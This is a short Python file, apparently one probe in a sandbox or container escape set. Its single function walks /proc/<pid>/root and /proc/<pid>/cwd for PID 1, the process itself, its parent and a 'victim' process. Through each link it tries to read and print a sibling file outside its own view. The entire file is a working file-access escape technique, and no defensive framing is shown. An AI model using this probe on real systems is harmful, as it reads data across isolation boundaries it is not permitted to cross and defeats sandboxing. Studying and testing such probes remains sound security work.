"""Looks for the real disk behind /proc/PID/root and /proc/PID/cwd."""

import os


def f(world):
    for pid in ("1", "self", str(os.getppid()), str(world.victim)):
        for way in ("root", "cwd"):
            try:
                print(open(f"/proc/{pid}/{way}{world.sibling}").read())
            except OSError:
                continue
